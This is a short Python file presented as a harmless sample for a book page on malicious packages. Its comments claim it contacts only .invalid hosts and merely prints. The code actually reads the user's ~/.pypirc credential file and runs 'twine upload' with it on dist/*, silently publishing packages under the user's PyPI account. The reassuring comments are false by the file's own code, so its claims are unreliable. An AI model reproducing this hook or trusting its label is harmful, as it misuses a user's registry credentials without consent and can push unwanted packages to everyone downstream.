# Inert sample for the book page "Anatomy of a malicious package": harmless by construction
# (the hosts end in .invalid or are documentation addresses, the payload only prints).
# It exists to be read by scanners; never install it, never run it.
import os
import subprocess

_RC = os.path.expanduser("~/.pypirc")
if os.path.exists(_RC):
    subprocess.run(["twine", "upload", "--config-file", _RC, "dist/*"], check=False)
